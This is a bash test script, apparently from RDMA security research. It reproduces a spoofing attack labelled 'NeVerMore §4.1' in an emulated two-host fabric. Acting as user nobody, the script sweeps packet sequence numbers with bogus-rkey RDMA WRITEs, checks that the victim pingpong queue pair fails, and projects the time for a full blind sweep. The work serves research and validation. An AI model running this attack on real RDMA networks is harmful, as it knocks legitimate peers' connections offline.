# SPDX-License-Identifier: MIT
# NeVerMore §4.1 on real rxe against a third-party victim, from an
# unprivileged process using nothing but verbs. ibv_rc_pingpong runs between
# host 1 (server: the victim) and host 2 (client: its legitimate peer). The
# attacker, user nobody on host 2, opens host 2's device rxe2 (so its packets
# carry the peer's address), aims 64 QPs at the server's QPN and sweeps PSNs
# with bogus-rkey RDMA WRITEs, starting from the client's initial PSN as
# printed by pingpong (the plaintext exchange carries it too). The server's
# QP must fail and pingpong exit non-zero long before its 1000000 iterations,
# while a control run without the attack completes. A last run measures the
# blind sweep rate against a live victim and the projected 2^24 sweep time.
# (One guest kernel runs every host, so the rate includes the victim's work.)
. "$(dirname "$0")/common.bash"

atk=$build/tools/attack/rdmasec-attack
[ -x "$atk" ] || fail "build rdmasec-attack first ($atk)"

# No device needed for these: the help and the target guard.
"$atk" impersonate --help | grep -q 'psn-sweep' || fail "impersonate --help is incomplete"
"$atk" impersonate --dst 192.0.2.1 --qpn 0x11 2>"$work/refused"
[ $? -eq 2 ] && grep -q 'refusing to target 192.0.2.1' "$work/refused" ||
	fail "a target outside the fabric was not refused"

cat >"$work/scenario.sh" <<SCENARIO
set -u
cd $work
nobody="setpriv --reuid=65534 --regid=65534 --clear-groups"
# pingpong as host 1 (server) or host 2 (client), line-buffered so its QPN and PSN can be read at once
srv_pp="stdbuf -oL ibv_rc_pingpong -d rxe1 -g \$(fabric gid-index 1) -s 64"
cli_pp="stdbuf -oL ibv_rc_pingpong -d rxe2 -g \$(fabric gid-index 2) -s 64"
remote_line() { # wait for the server's view of the client: QPN and first PSN
	for _ in \$(seq 1 300); do grep -m1 'remote address' "\$1" && return 0; sleep 0.1; done
	return 1
}
# victims NAME SECONDS: a long pingpong pair in the background (srv, cli; output in
# NAME-srv.out and NAME-cli.out), and the server's view of the client in qpn and psn.
victims() {
	timeout \$2 \$srv_pp -n 1000000 >\$1-srv.out 2>&1 &
	srv=\$!
	fabric wait-port 18515 30
	timeout \$2 \$cli_pp -n 1000000 10.77.0.1 >\$1-cli.out 2>&1 &
	cli=\$!
	line=\$(remote_line \$1-srv.out) || echo "no remote address from the server"
	qpn=\$(echo "\$line" | sed -n 's/.*QPN \(0x[0-9a-f]*\).*/\1/p')
	psn=\$(echo "\$line" | sed -n 's/.*PSN \(0x[0-9a-f]*\).*/\1/p')
}

echo "== control"
timeout 60 \$srv_pp -n 20000 >control-srv.out 2>&1 &
srv=\$!
fabric wait-port 18515 30
timeout 60 \$cli_pp -n 20000 10.77.0.1 >control-cli.out 2>&1
echo "control client exit \$?"
wait \$srv
echo "control server exit \$?"

echo "== attack"
victims attack 150
echo "victim: server QPN \$qpn, client's first PSN \$psn"
sleep 1
start=\$EPOCHREALTIME
fabric on 2 timeout 120 \$nobody $atk impersonate -d rxe2 --dst 10.77.0.1 --qpn \$qpn \
	--psn-sweep \$psn:4194304 --json >attack.json
echo "impersonate exit \$? after \$(awk "BEGIN { print \$EPOCHREALTIME - \$start }") s"
cat attack.json
wait \$srv
echo "attacked server exit \$?"
# The client's requests are never acknowledged again; rxe retries forever.
sleep 3
kill \$cli 2>/dev/null
wait \$cli
echo "attacked client exit \$?"

echo "== blind"
victims blind 90
# --no-watch: should the sweep hit the victim by chance, it still runs its 10 s.
fabric on 2 \$nobody $atk impersonate -d rxe2 --dst 10.77.0.1 --qpn \$qpn --max-time 10 --no-watch \
	--json >blind.json
echo "blind impersonate exit \$?"
cat blind.json
kill \$srv \$cli 2>/dev/null
wait
exit 0
SCENARIO

"$fabric" run --hosts 2 --timeout 400 "${build_share[@]}" -- bash "$work/scenario.sh" >"$work/out" 2>&1 ||
	{ cat "$work/out"; fail "the fabric run failed"; }
cat "$work/out"
for f in control-srv control-cli attack-srv attack-cli; do
	echo "--- $f"
	grep -v 'local address\|remote address' "$work/$f.out" | tail -n 4
done

expect_match "$work/out" '^control client exit 0$' "the control pingpong client failed"
expect_match "$work/out" '^control server exit 0$' "the control pingpong server failed"
expect_match "$work/control-srv.out" '^20000 iters in' "the control run did not complete its iterations"
expect_match "$work/out" '^victim: server QPN 0x[0-9a-f]+, client.s first PSN 0x[0-9a-f]+$' "no QPN/PSN from pingpong"
expect_match "$work/out" '^impersonate exit 0 ' "impersonate failed"
# Exit 1 from pingpong itself, not 124 from timeout: the victim saw its QP fail.
expect_match "$work/out" '^attacked server exit 1$' "the attacked pingpong server did not fail by itself"
expect_match "$work/attack-srv.out" '^Failed status' "the attacked server printed no completion error"
! grep -q '^1000000 iters in' "$work/attack-srv.out" || fail "the victim finished all iterations despite the attack"

python3 - "$work/attack.json" "$work/blind.json" <<'PY' || fail "impersonate's results are wrong"
import json, sys
a = json.load(open(sys.argv[1]))
b = json.load(open(sys.argv[2]))
assert a["ok"] and a["op"] == "write", a
assert a["victim_alive_at_start"] == "yes", "the victim did not answer the first probe"
assert a["victim_broken"] and a["stop"] == "victim-broken", "impersonate did not see the victim fail"
assert 0 < a["packets"] <= a["psn_count"], a
# Every WQE came back flushed: nothing was left in a send queue.
assert a["flushed"] == a["packets"] + a["probe_packets"] and b["flushed"] == b["packets"], (a, b)
assert b["ok"] and b["stop"] == "time-limit" and b["psn_count"] == 1 << 24, b
assert b["pps"] > 0 and b["full_sweep_s"] > 0, b
print("attack: %d packets, victim broken after %.1f s (seen by %s)" % (a["packets"], a["break_s"], a["detected_by"]))
print("blind: %.0f pkt/s over %.1f s with %d QPs x %d; full 2^24 sweep %.0f s (projected)"
      % (b["pps"], b["elapsed_s"], b["qps"], b["window"], b["full_sweep_s"]))
PY
echo "attack_impersonate: ok"
